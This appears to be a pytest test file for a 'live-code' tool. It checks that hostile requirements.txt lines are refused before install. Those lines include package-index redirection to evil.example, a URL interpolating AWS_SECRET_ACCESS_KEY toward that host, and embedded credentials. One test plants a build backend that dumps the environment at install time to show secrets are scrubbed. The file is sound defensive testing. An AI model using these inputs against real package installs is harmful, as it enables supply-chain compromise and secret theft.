"""Hostile ``requirements.txt`` (security-research.md section 3, "requirements.txt"; threats 23-28):
a refused line stops ``live-code run`` before any install, naming ``file:line``; what is accepted is
installed offline from wheels inside the test. No test here talks to a package index."""

from __future__ import annotations

import json
import textwrap

import pytest

from live_code import errors
from tests.helpers.adversarial import CANARIES, CANARY_URL, Harness, wheel_bytes

SHA = "0123456789abcdef0123456789abcdef01234567"

# requirements.txt text -> words of the message (besides "refused requirement")
REFUSED = {
    "--index-url https://evil.example/simple\n": ["requirements.txt:1", "--index-url"],
    "-i https://evil.example/simple\n": ["requirements.txt:1", "-i"],
    "--extra-index-url https://download.pytorch.org/whl/cu121\n": ["--extra-index-url"],
    "--trusted-host evil.example\n": ["--trusted-host"],
    "--find-links https://evil.example/links\n": ["--find-links"],
    "-f /tmp\n": ["-f"],
    "--no-index\n": ["--no-index"],
    "--no-binary :all:\n": ["--no-binary"],
    "--pre\n": ["--pre"],
    "--no-require-hashes\n": ["--no-require-hashes"],
    "--config-settings key=value\n": ["--config-settings"],
    "--use-feature fast-deps\n": ["--use-feature"],
    "-e .\n": ["editable"],
    "-c constraints.txt\n": ["constraint files"],
    "-r ../outside.txt\n": ["outside the repository"],
    "-r https://evil.example/req.txt\n": ["inside the repository"],
    "../../etc\n": ["outside the repository"],
    "git+https://github.com/o/r@main#egg=x\n": ["full commit SHA"],
    "x @ git+https://github.com/o/r@v1.0\n": ["full commit SHA"],
    f"x @ git+ssh://git@github.com/o/r@{SHA}\n": ["git+ssh requirements are not allowed"],
    "http://evil.example/x-1.0-py3-none-any.whl\n": ["http:// downloads"],
    f"x @ https://user:{CANARY_URL}@evil.example/x-1.0-py3-none-any.whl\n": ["credentials"],
    "x @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/x.whl\n": ["${...}"],
    "numpy==1.26.4 \\\n  --index-url https://evil.example/simple\n": ["--index-url"],
    "numpy==1.26.4 --hash=md5:0123456789abcdef\n": ["md5:"],
    "numpy==1.26.4 --hash=sha256:nothex\n": ["sha256:nothex"],
    "numpy==1.26.4 --global-option=--x\n": ["--global-option"],
    "not a requirement!\n": ["not a valid requirement"],
}


@pytest.mark.parametrize("text", list(REFUSED))
def test_hostile_requirement_line_is_refused_before_any_install(harness: Harness, text: str) -> None:
    harness.use(harness.repo({"requirements.txt": text, "constraints.txt": "numpy==1.26.4\n", "pkg/setup.py": ""}))
    (harness.root / "repos" / "outside.txt").write_text("numpy==1.26.4\n")
    out = harness.run(timeout=60)
    harness.expect_failure(out, errors.RequirementError, "refused requirement", *REFUSED[text])
    assert "environment" not in harness.provenance()
    assert not list((harness.cache / "envs").glob("*/bin"))  # no env was even created


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("numpy==1.26.4\n".encode("utf-16"), ["not UTF-8"]),
        (b"numpy==1.26.4\n" * 80_000, ["larger than 1 MiB"]),
    ],
)
def test_requirements_file_that_is_not_small_utf8_text_is_refused(
    harness: Harness, data: bytes, words: list[str]
) -> None:
    harness.use(harness.repo({"requirements.txt": data}))
    harness.expect_failure(harness.run(timeout=60), errors.RequirementError, *words)


def test_unpinned_requirement_is_refused_with_strict_pins(harness: Harness) -> None:
    harness.use(harness.repo({"requirements.txt": "tinydep\n"}), live_code_strict_pins=True)
    harness.expect_failure(harness.run(timeout=60), errors.RequirementError, "requirements.txt:1", "not pinned")


@pytest.mark.parametrize(
    "line",
    [
        "torch==2.0.0",
        "torch>=2.14",
        "torch<2",
        "torch @ https://download.pytorch.org/whl/torch.whl",
        f"torch @ git+https://github.com/pytorch/pytorch@{SHA}",
    ],
)
def test_requirement_replacing_the_base_framework_is_refused(harness: Harness, fake_torch_base: str, line: str) -> None:
    harness.env["LIVE_CODE_BASE_PYTHON"] = fake_torch_base
    harness.use(harness.repo({"requirements.txt": line + "\n"}))
    harness.expect_failure(
        harness.run(timeout=60), errors.RequirementError, "would replace the base image's torch 2.13.0"
    )


def _offline(harness: Harness) -> dict[str, object]:
    wheels = harness.root / "wheelhouse"
    wheels.mkdir(exist_ok=True)
    return {"pip_offline": True, "pip_find_links": str(wheels)}


def test_dependency_on_another_torch_fails_resolution_and_leaves_no_env(harness: Harness, fake_torch_base: str) -> None:
    harness.env["LIVE_CODE_BASE_PYTHON"] = fake_torch_base
    wheel = wheel_bytes(harness.root / "w", "needs-new-torch", "1.0", requires=("torch==2.14.0",))
    repo = harness.repo(
        {
            "wheels/needs_new_torch-1.0-py3-none-any.whl": wheel,
            "requirements.txt": "./wheels/needs_new_torch-1.0-py3-none-any.whl\n",
        }
    )
    harness.use(repo, **_offline(harness))
    harness.expect_failure(harness.run(), errors.EnvironmentBuildError, "could not resolve the requirements", "torch")


def test_ten_thousand_requirements_fail_offline_resolution_cleanly(harness: Harness) -> None:
    text = "".join(f"pkg{i}==1.0\n" for i in range(10_000))
    harness.use(harness.repo({"requirements.txt": text}), **_offline(harness))
    harness.expect_failure(harness.run(), errors.EnvironmentBuildError, "could not resolve the requirements")


# An in-tree PEP 517 backend (no build requirements, so nothing is downloaded) that records the
# environment it runs in: code from the repository runs at install time.
_BACKEND = """
import base64, hashlib, json, os, zipfile

NAME, VERSION = "hostilepkg", "1.0"
INFO = f"{NAME}-{VERSION}.dist-info"


def _record():
    with open(os.environ.get("HOSTILE_DUMP", %(dump)r), "w") as f:
        json.dump(dict(os.environ), f)


def _metadata():
    return f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n"


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    _record()
    os.makedirs(os.path.join(metadata_directory, INFO))
    with open(os.path.join(metadata_directory, INFO, "METADATA"), "w") as f:
        f.write(_metadata())
    return INFO


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _record()
    files = {f"{NAME}/__init__.py": "BUILT = True\\n", f"{INFO}/METADATA": _metadata(),
             f"{INFO}/WHEEL": "Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    files[f"{INFO}/RECORD"] = "\\n".join(record + [f"{INFO}/RECORD,,"]) + "\\n"
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as zf:
        for path, text in files.items():
            zf.writestr(path, text)
    return name
"""


def test_source_build_runs_repository_code_at_install_without_secrets(harness: Harness) -> None:
    """Documented (threat 27): a local source package is built at install time, running the
    repository's build backend outside the job's sandbox; it gets the installer's scrubbed
    environment, with no secret of the harness's."""
    dump = harness.root / "build-env.json"
    pyproject = textwrap.dedent("""
        [build-system]
        requires = []
        build-backend = "backend"
        backend-path = ["."]
        """)
    repo = harness.repo(
        {
            "pkg/pyproject.toml": pyproject,
            "pkg/backend.py": _BACKEND % {"dump": str(dump)},
            "requirements.txt": "./pkg\n",
        }
    )
    harness.use(repo, **_offline(harness))
    prov = harness.expect_success(harness.run())
    assert "hostilepkg==1.0" in prov["environment"]["added"]
    environ = json.loads(dump.read_text())  # the backend ran
    leaked = [k for k, v in environ.items() if any(c in v for c in CANARIES) or k.startswith("LIVE_CODE_GIT")]
    assert leaked == []


def test_local_wheel_inside_the_repository_is_installed_offline(harness: Harness) -> None:
    """Documented success: a pinned local wheel in the repo, with an offline wheelhouse."""
    wheel = wheel_bytes(harness.root / "w", "tinyapp", "1.0")
    repo = harness.repo(
        {"wheels/tinyapp-1.0-py3-none-any.whl": wheel, "requirements.txt": "./wheels/tinyapp-1.0-py3-none-any.whl\n"}
    )
    harness.use(repo, **_offline(harness))
    prov = harness.expect_success(harness.run())
    assert prov["environment"]["added"] == ["tinyapp==1.0"]


def test_option_after_a_continued_comment_is_part_of_the_comment(harness: Harness) -> None:
    """Documented (pip's rule too): a line continued after its comment swallows the next line
    into the comment, so an option hidden there is never read."""
    wheels = harness.root / "wheelhouse"
    wheel_bytes(wheels, "tinyapp", "1.0")
    repo = harness.repo({"requirements.txt": "tinyapp==1.0  # pinned \\\n--extra-index-url https://evil.example/s\n"})
    harness.use(repo, **_offline(harness))
    prov = harness.expect_success(harness.run())
    assert prov["environment"]["added"] == ["tinyapp==1.0"]
